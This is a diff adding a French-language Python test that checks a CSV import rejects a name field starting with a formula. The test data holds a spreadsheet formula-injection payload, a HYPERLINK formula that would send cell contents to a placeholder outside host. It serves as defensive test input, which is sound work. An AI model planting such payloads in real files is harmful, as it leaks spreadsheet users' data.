@@ -506,3 +506,11 @@ def test_telephone_invalide_refuse_comme_a_la_saisie(dossier, importer, alice):
     assert refuse(importer(dossier)) == [
         "jeunes.csv:3: telephone: numéro de téléphone invalide « abc » (10 chiffres, ou + et 11 à 15 chiffres)"
     ]
+
+
+def test_nom_qui_commence_comme_une_formule_refuse_comme_a_la_saisie(dossier, importer, alice):
+    jeunes(dossier, JEUNE_OK, 'J2;=HYPERLINK("http://exemple.org/?"&B2, "Ouvrir");Paul;m;2003-06-15;35051;;2021-02-01;')
+
+    assert refuse(importer(dossier)) == [
+        "jeunes.csv:3: nom: un nom ou un prénom commence par une lettre (pas par =, +, -, @, un chiffre)"
+    ]
